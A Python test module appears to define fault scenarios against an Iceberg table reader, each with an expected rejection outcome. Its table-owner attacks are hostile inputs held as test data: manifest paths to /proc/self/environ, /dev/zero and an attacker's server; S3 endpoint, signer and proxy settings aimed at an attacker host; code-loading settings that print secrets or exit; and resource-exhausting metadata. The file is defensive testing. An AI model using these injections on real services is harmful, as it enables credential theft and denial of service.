"""What the owner of a table can make of it: by accident, or to get in."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

from tests.chaos.lake import SECRET_KEY, TOKEN
from tests.chaos.scenes import Fault, Scene
from tests.chaos.victim import Victim, rewrite, set_field
from tests.metadata_growth import SHAPES, mapped_in_each_other

UNREADABLE = "unreadable_metadata"
ELSEWHERE = "location_not_allowed"

_RECORD_COUNT = 103
_MANIFEST_PATH, _ADDED_FILES, _ADDED_ROWS = 500, 504, 512


def negative_record_counts(scene: Scene) -> None:
    for manifest in scene.victim.manifests:
        rewrite(manifest, lambda record, schema: set_field(record, schema, _RECORD_COUNT, -1))


def negative_row_totals_in_the_manifest_list(scene: Scene) -> None:
    edit_list(scene.victim, _ADDED_ROWS, -7)


def negative_file_counts_in_the_manifest_list(scene: Scene) -> None:
    edit_list(scene.victim, _ADDED_FILES, -1)


def more_files_listed_than_there_are(scene: Scene) -> None:
    edit_list(scene.victim, _ADDED_FILES, 9)


def a_snapshot_id_beyond_64_bits(scene: Scene) -> None:
    def change(document: dict[str, Any]) -> None:
        text = json.dumps(document)
        current = str(document["current-snapshot-id"])
        document.clear()
        document.update(json.loads(text.replace(current, str(2**63 + 5))))

    scene.victim.edit(change)
    scene.read_by_file()


def queries_that_keep_no_file(scene: Scene) -> None:
    scene.conditions = ("day >= TIMESTAMP '2030-01-01 00:00:00'", "day < TIMESTAMP '2020-01-01'")


def a_name_mapping_without_end(scene: Scene) -> None:
    nested = '[{"names":["a"],"fields":' * 100_000 + "[]" + "}]" * 100_000
    scene.victim.set_property("schema.name-mapping.default", nested)


def a_file_size_of_5000_digits(scene: Scene) -> None:
    scene.victim.set_property("write.target-file-size-bytes", "9" * 5000)


def a_list_for_the_snapshot_id(scene: Scene) -> None:
    scene.victim.edit(lambda document: document.__setitem__("current-snapshot-id", [1]))
    scene.read_by_file()


def a_list_for_the_properties(scene: Scene) -> None:
    scene.victim.edit(lambda document: document.__setitem__("properties", [1]))
    scene.read_by_file()


def health_that_cannot_be_measured(scene: Scene) -> None:
    first = scene.victim.table.snapshots()[0].snapshot_id
    scene.victim.manifest_list.unlink()
    scene.conditions = ()
    scene.ask(f"SELECT * FROM {scene.table} FOR VERSION AS OF {first} WHERE id = 7")


def a_file_io_that_prints_secrets(scene: Scene) -> None:
    scene.victim.set_property("py-io-impl", "builtins.print")


def a_file_io_that_ends_the_run(scene: Scene) -> None:
    scene.victim.set_property("py-io-impl", "sys.exit")


def an_endpoint_of_the_owners(scene: Scene) -> None:
    _in_s3(scene, {"s3.endpoint": f"http://{scene.attacker}", "s3.region": "us-east-1"})


def a_signer_of_the_owners(scene: Scene) -> None:
    signer = {"s3.signer": "S3V4RestSigner", "s3.signer.uri": f"http://{scene.attacker}"}
    _in_s3(scene, {**signer, "py-io-impl": "pyiceberg.io.fsspec.FsspecFileIO"})


def a_proxy_of_the_owners(scene: Scene) -> None:
    _in_s3(scene, {"s3.proxy-uri": f"http://{scene.attacker}"})


def a_manifest_list_that_is_endless(scene: Scene) -> None:
    _point_list_to(scene, "/dev/zero")


def a_manifest_list_that_nobody_writes(scene: Scene) -> None:
    pipe = scene.victim.folder / "pipe.avro"
    os.mkfifo(pipe)
    _point_list_to(scene, str(pipe))


def a_manifest_list_of_this_process(scene: Scene) -> None:
    _point_list_to(scene, "/proc/self/environ")


def a_manifest_list_on_the_owners_server(scene: Scene) -> None:
    _point_list_to(scene, f"http://{scene.attacker}/list.avro")


def a_manifest_list_with_a_name_of_megabytes(scene: Scene) -> None:
    _point_list_to(scene, f"file://{scene.victim.folder}/" + "b/" * 5_000_000)


def a_manifest_list_whose_path_holds_secrets(scene: Scene) -> None:
    _point_list_to(scene, f"s3://KEY:{SECRET_KEY}@bucket/list.avro?X-Amz-Signature={TOKEN}")


def a_manifest_that_nobody_writes(scene: Scene) -> None:
    pipe = scene.victim.folder / "pipe.avro"
    os.mkfifo(pipe)
    edit_list(scene.victim, _MANIFEST_PATH, f"file://{pipe}")


def a_manifest_that_is_endless(scene: Scene) -> None:
    edit_list(scene.victim, _MANIFEST_PATH, "file:///dev/zero")


def a_block_of_no_records(scene: Scene) -> None:
    _write_blocks(scene.victim.manifest_list, count=0, size=0)


def a_block_of_a_negative_count(scene: Scene) -> None:
    _write_blocks(scene.victim.manifest_list, count=-1, size=0)


def a_block_of_endless_records_without_bytes(scene: Scene) -> None:
    path = scene.victim.manifest_list
    path.write_bytes(
        b"Obj\x01"
        + _bytes_map({"avro.schema": b'{"type":"record","name":"manifest_file","fields":[]}'})
        + bytes(16)
        + _long(2**62)
        + _long(0)
        + bytes(16)
    )


def a_data_file_that_is_gone(scene: Scene) -> None:
    scene.victim.data_files[0].unlink()


def a_data_file_that_is_torn(scene: Scene) -> None:
    torn = scene.victim.data_files[0]
    torn.write_bytes(torn.read_bytes()[:-40])


def a_manifest_that_is_gone(scene: Scene) -> None:
    scene.victim.manifests[0].unlink()


def a_manifest_that_is_torn(scene: Scene) -> None:
    torn = scene.victim.manifests[0]
    torn.write_bytes(torn.read_bytes()[:-30])


def metadata_that_multiplies(scene: Scene) -> None:
    """Each of these takes hours where any two of its dimensions are multiplied."""

    def change(document: dict[str, Any]) -> None:
        for shape in ("spec_fields_by_schemas", "snapshot_log", "refs"):
            SHAPES[shape](document, 20_000)
        mapped_in_each_other(document, 60)

    scene.victim.edit(change)
    scene.read_by_file()


def edit_list(victim: Victim, field_id: int, value: object) -> None:
    """Sets a field of each manifest in the list."""
    rewrite(victim.manifest_list, lambda record, schema: set_field(record, schema, field_id, value))


def _point_list_to(scene: Scene, location: str) -> None:
    def change(document: dict[str, Any]) -> None:
        for snapshot in document["snapshots"]:
            snapshot["manifest-list"] = location

    scene.victim.edit(change)


def _in_s3(scene: Scene, properties: dict[str, str]) -> None:
    """Lets the table be in a bucket, by its own word, of a store that is not there."""
    scene.properties["s3.endpoint"] = "http://127.0.0.1:1"
    scene.properties["s3.access-key-id"] = "k"
    for key, value in properties.items():
        scene.victim.set_property(key, value)
    _point_list_to(scene, "s3://bucket/list.avro")


def _write_blocks(path: Path, *, count: int, size: int) -> None:
    """Leaves of an Avro file the header, and one block."""
    content = path.read_bytes()
    sync = content[-16:]
    end_of_header = content.index(sync) + len(sync)
    path.write_bytes(content[:end_of_header] + _long(count) + _long(size) + sync)


def _bytes_map(values: dict[str, bytes]) -> bytes:
    encoded = _long(len(values))
    for key, value in values.items():
        encoded += _long(len(key)) + key.encode() + _long(len(value)) + value
    return encoded + _long(0)


def _long(value: int) -> bytes:
    """Avro's variable-length zig-zag coding."""
    rest = (value << 1) ^ (value >> 63)
    encoded = bytearray()
    while rest & ~0x7F:
        encoded.append(rest & 0x7F | 0x80)
        rest >>= 7
    encoded.append(rest)
    return bytes(encoded)


TABLE_FAULTS = (
    Fault(negative_record_counts),
    Fault(negative_row_totals_in_the_manifest_list),
    Fault(negative_file_counts_in_the_manifest_list),
    Fault(more_files_listed_than_there_are),
    Fault(a_snapshot_id_beyond_64_bits, UNREADABLE),
    Fault(queries_that_keep_no_file),
    Fault(a_name_mapping_without_end),
    Fault(a_file_size_of_5000_digits),
    Fault(a_list_for_the_snapshot_id, UNREADABLE),
    Fault(a_list_for_the_properties, UNREADABLE),
    Fault(health_that_cannot_be_measured),
    Fault(a_file_io_that_prints_secrets),
    Fault(a_file_io_that_ends_the_run),
    Fault(an_endpoint_of_the_owners, "storage_unreachable"),
    Fault(a_signer_of_the_owners, "storage_unreachable"),
    Fault(a_proxy_of_the_owners, "storage_unreachable"),
    Fault(a_manifest_list_that_is_endless, ELSEWHERE),
    Fault(a_manifest_list_that_nobody_writes, "not_a_file"),
    Fault(a_manifest_list_of_this_process, ELSEWHERE),
    Fault(a_manifest_list_on_the_owners_server, ELSEWHERE),
    Fault(a_manifest_list_with_a_name_of_megabytes, UNREADABLE),
    Fault(a_manifest_list_whose_path_holds_secrets, "storage_unreachable"),
    Fault(a_manifest_that_nobody_writes, "not_a_file"),
    Fault(a_manifest_that_is_endless, ELSEWHERE),
    Fault(a_block_of_no_records, UNREADABLE),
    Fault(a_block_of_a_negative_count, UNREADABLE),
    Fault(a_block_of_endless_records_without_bytes, UNREADABLE),
    Fault(a_data_file_that_is_gone),
    Fault(a_data_file_that_is_torn),
    Fault(a_manifest_that_is_gone, UNREADABLE),
    Fault(a_manifest_that_is_torn, UNREADABLE),
    Fault(metadata_that_multiplies),
)
